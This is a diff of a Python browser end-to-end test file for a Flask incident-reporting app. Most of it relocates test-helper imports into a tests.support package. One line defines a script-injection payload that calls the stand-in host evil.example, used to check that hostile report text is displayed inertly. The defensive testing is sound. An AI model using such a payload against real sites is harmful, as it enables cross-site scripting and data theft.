@@ -20,11 +20,11 @@ from reporter.models.private import Report
 from reporter.models.public import Incident
 from reporter.models.staff import Staff
 from reporter.web.auth import hash_password
-from tests.browser import Watch, chromium, live_server
 from tests.conftest import table_dump
-from tests.intake_helpers import secrets_of
-from tests.staff_helpers import PASSWORD
+from tests.support.browser import Watch, chromium, live_server
 from tests.support.dates import REPORTED
+from tests.support.intake import secrets_of
+from tests.support.staff import PASSWORD
 from tests.test_intake_browser import Reporter, record_posts
 
 SENTINEL = "SENTINEL-E2E-narrative-9vq"
@@ -129,7 +129,7 @@ def test_report_to_published_incident(app: Flask, browser: Any,
         # and to whom a coordinator has granted the Gauteng key (sealed to her public key)
         with app.app_context():
             staff = db.session().scalars(select(Staff).where(Staff.login == "thandi")).one()
-            from tests.staff_helpers import Member, grant
+            from tests.support.staff import Member, grant
 
             grant(app, Member(staff.id, staff.login, "", b"",
                               envelope.b64d(staff.public_key)), "GP")
@@ -181,8 +181,8 @@ def test_report_to_published_incident(app: Flask, browser: Any,
 
 def test_recovery_ceremony_and_grant_in_the_browser(app: Flask, browser: Any,
                                                     database_url: str) -> None:
-    from tests.staff_helpers import PASSPHRASE as STAFF_PASSPHRASE
-    from tests.staff_helpers import fresh_code, make_staff
+    from tests.support.staff import PASSPHRASE as STAFF_PASSPHRASE
+    from tests.support.staff import fresh_code, make_staff
 
     admin = make_staff(app, "first-admin", ["admin"])
     moderator = make_staff(app, "mod-gp", ["moderator"], ["GP"], iterations=1000)
@@ -237,9 +237,9 @@ HOSTILE = ('<script>window.__pwned=1;fetch("http://evil.example/a")</script>'
 
 
 def test_hostile_narrative_is_shown_as_text_and_runs_nothing(app: Flask, browser: Any) -> None:
-    from tests.intake_helpers import browser_payload, keyring_json, recipients, submit_sealed
-    from tests.staff_helpers import PASSPHRASE as STAFF_PASSPHRASE
-    from tests.staff_helpers import fresh_code, grant, make_staff
+    from tests.support.intake import browser_payload, keyring_json, recipients, submit_sealed
+    from tests.support.staff import PASSPHRASE as STAFF_PASSPHRASE
+    from tests.support.staff import fresh_code, grant, make_staff
 
     # Given a report whose every text field carries script payloads, with a hostile file name
     client = app.test_client()
